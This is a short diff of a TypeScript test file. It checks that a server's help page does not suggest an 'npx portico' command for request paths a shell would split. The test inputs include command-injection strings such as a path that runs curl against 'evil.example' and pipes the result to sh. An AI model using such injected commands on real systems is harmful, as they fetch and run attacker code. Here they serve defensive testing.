@@ -38,8 +38,7 @@ it('shows no command for an address that a shell would not take as one word', as
   const textAt = async (path: string): Promise<string> =>
     (await handler.fetch(new Request(`https://mcp.example.com${path}`, { headers: { accept: BROWSER } }))).text()
   expect(await textAt('/mcp')).toContain('npx portico tools https://mcp.example.com/mcp<')
-  for (const path of ["/mcp;curl$IFS'evil.example'|sh", '/mcp&&sh', '/$(sh)'])
-    expect(await textAt(path)).not.toContain('npx portico')
+  for (const path of ["/mcp;curl$IFS'evil.example'|sh", '/mcp&&sh', '/$(sh)']) expect(await textAt(path)).not.toContain('npx portico')
 })
 
 it('names https behind a proxy that says so, and only if proxies are trusted', async () => {
